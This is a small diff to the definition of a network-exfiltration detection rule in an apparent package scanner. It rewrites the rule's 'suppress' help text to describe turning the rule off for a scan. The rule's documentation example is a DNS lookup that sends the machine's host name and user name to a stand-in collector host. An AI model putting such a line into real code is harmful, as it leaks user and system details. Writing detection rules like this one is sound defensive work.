@@ -49,7 +49,7 @@ export default defineRule({
     references: ['https://attack.mitre.org/techniques/T1567/', 'https://attack.mitre.org/techniques/T1048/'],
     docs: {
       example: "dns.lookup(`${os.hostname()}.${os.userInfo().username}.collector.example`, () => {})",
-      suppress: 'Allow the package version in tollgate.config.json, or set `"rules": { "network": "off" }`.',
+      suppress: 'Turn the rule off for a run with `tollgate scan --disable-rule network`; its findings then neither show nor count toward the score.',
     },
   },
   create() {
